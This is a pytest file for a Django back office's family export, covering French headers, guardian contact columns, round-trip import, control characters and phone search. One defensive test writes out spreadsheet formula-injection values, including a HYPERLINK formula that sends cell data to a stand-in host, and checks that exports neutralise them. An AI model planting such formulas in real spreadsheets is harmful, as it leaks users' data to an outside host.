"""The families export: French headers, the guardians as a contact list, safe cells, and it imports back."""

import io
import re

import openpyxl
import pytest
import tablib
from django.db import connection
from django.test.utils import CaptureQueriesContext
from import_export.formats.base_formats import CSV, XLSX

from backoffice.crud import registry
from families.models import Family

from .factories import FamilyFactory, GuardianFactory

pytestmark = pytest.mark.django_db


def export_families(queryset=None):
    resource = registry.get(Family).resource_class()
    return resource.export(queryset if queryset is not None else Family.objects.order_by("code"))


def test_export_has_french_headers_and_the_guardians_contacts():
    family = FamilyFactory(code="F-600001", name="DURAND Paul et Anne", paperless_invoices=True)
    GuardianFactory(
        family=family,
        first_name="Anne",
        last_name="Durand",
        email="anne@exemple.fr",
        phone_mobile="06 11 22 33 44",
    )
    GuardianFactory(
        family=family,
        first_name="Paul",
        last_name="Durand",
        email="paul@exemple.fr",
        phone_mobile="07 55 66 77 88",
        is_billing_contact=False,
    )
    data = export_families()
    assert data.headers[:3] == ["Code famille", "Nom du foyer", "Adresse"]
    assert "code" not in data.headers and "paperless_invoices" not in data.headers
    row = dict(zip(data.headers, data[0], strict=True))
    assert row["Facture dématérialisée"] == "oui"
    assert row["Responsables légaux"] == "Anne Durand / Paul Durand"
    assert row["E-mails des responsables"] == "anne@exemple.fr / paul@exemple.fr"
    assert row["Portables des responsables"] == "06 11 22 33 44 / 07 55 66 77 88"


def test_export_queries_do_not_grow_with_the_number_of_families():
    for _ in range(3):
        GuardianFactory()
    with CaptureQueriesContext(connection) as few:
        export_families()
    for _ in range(12):
        GuardianFactory()
    with CaptureQueriesContext(connection) as many:
        data = export_families()
    assert len(data) == 15
    assert len(many) == len(few)


def test_an_exported_file_imports_back_unchanged_then_with_an_edit():
    GuardianFactory(family=FamilyFactory(code="F-600010", name="LEROY Marc"))
    GuardianFactory(family=FamilyFactory(code="F-600011", name="ROUX Léa", is_active=False))
    exported = CSV().export_data(export_families())
    resource = registry.get(Family).resource_class()
    again = resource.import_data(tablib.Dataset().load(exported, format="csv"), dry_run=False)
    assert not again.has_errors() and not again.has_validation_errors(), [
        r.error_dict for r in again.invalid_rows
    ]
    assert again.totals["skip"] == 2
    edited = exported.replace("LEROY Marc", "LEROY Marc et Julie")
    result = registry.get(Family).resource_class().import_data(tablib.Dataset().load(edited, format="csv"))
    assert not result.has_errors() and not result.has_validation_errors()
    assert Family.objects.get(code="F-600010").name == "LEROY Marc et Julie"
    assert Family.objects.get(code="F-600011").is_active is False


def test_a_formula_typed_by_a_parent_is_plain_text_in_csv_and_xlsx():
    family = FamilyFactory(code="F-600020", name='=HYPERLINK("http://evil.example/?x="&A1,"Voir")')
    GuardianFactory(family=family, first_name="@SUM(1+1)", last_name="+cmd", phone_mobile="+33 6 12 34 56 78")
    data = export_families()
    row = dict(zip(data.headers, data[0], strict=True))
    assert row["Nom du foyer"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Voir")'
    assert row["Responsables légaux"] == "'@SUM(1+1) +cmd"
    assert row["Portables des responsables"] == "+33 6 12 34 56 78"  # a phone number stays a phone number

    csv_text = CSV().export_data(data)
    assert ",=HYPERLINK" not in csv_text and "'=HYPERLINK" in csv_text
    sheet = openpyxl.load_workbook(io.BytesIO(XLSX().export_data(data))).active
    name_cell = sheet.cell(row=2, column=data.headers.index("Nom du foyer") + 1)
    assert name_cell.data_type == "s"
    assert name_cell.value.startswith("'=HYPERLINK")

    # Staff who export, fix an address and import back do not get the apostrophe stored.
    result = registry.get(Family).resource_class().import_data(tablib.Dataset().load(csv_text, format="csv"))
    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["skip"] == 1
    assert Family.objects.get(code="F-600020").name.startswith("=HYPERLINK")


def test_control_characters_in_a_name_do_not_break_the_xlsx_export():
    family = FamilyFactory(code="F-600030", name="MARTIN\x07 Luc\x1b")
    GuardianFactory(family=family, first_name="Zo\x00é", last_name="Martin", email="zoe@exemple.fr")
    data = export_families()
    content = XLSX().export_data(data)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    values = [c.value for c in sheet[2]]
    assert "MARTIN Luc" in values
    assert "Zoé Martin" in values


def test_staff_export_families_from_the_back_office_as_xlsx(admin_client):
    FamilyFactory(code="F-600040", name="PETIT\x07 Jeanne")
    form = admin_client.get("/gestion/families/family/export/").content.decode()
    xlsx = re.search(r'<option value="(\d+)"[^>]*>\s*xlsx\s*</option>', form, re.IGNORECASE).group(1)
    checkboxes = re.findall(r'type="checkbox" name="(familyresource_[^"]+)"', form)
    assert "familyresource__export_guardians_1" in checkboxes  # the contact columns can be picked
    response = admin_client.post(
        "/gestion/families/family/export/",
        {"format": xlsx, "resource": "0", **dict.fromkeys(checkboxes, "on")},
    )
    assert response.status_code == 200, response.content[:500]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet.cell(row=1, column=1).value == "Code famille"
    assert "PETIT Jeanne" in [c.value for c in sheet[2]]
    assert "E-mails des responsables" in [c.value for c in sheet[1]]


@pytest.mark.parametrize(
    "typed", ["06 12 34 56 78", "0612345678", "06.12.34.56.78", "06-12-34-56-78", "34 56 78"]
)
def test_staff_find_a_family_by_a_guardians_phone_however_typed(admin_client, typed):
    GuardianFactory(family=FamilyFactory(code="F-600050", name="BLANC Zoé"), phone_mobile="06 12 34 56 78")
    GuardianFactory(
        family=FamilyFactory(code="F-600051", name="NOIR Léo"),
        phone_mobile="07 00 00 00 01",
        phone_home="01.39.60.12.34",
    )
    response = admin_client.get("/gestion/families/family/", {"q": typed})
    assert response.status_code == 200
    page = response.content.decode()
    assert "F-600050" in page and "F-600051" not in page


def test_staff_find_a_family_by_its_home_phone(admin_client):
    GuardianFactory(family=FamilyFactory(code="F-600052", name="NOIR Léo"), phone_home="01.39.60.12.34")
    response = admin_client.get("/gestion/families/family/", {"q": "01 39 60 12 34"})
    assert "F-600052" in response.content.decode()
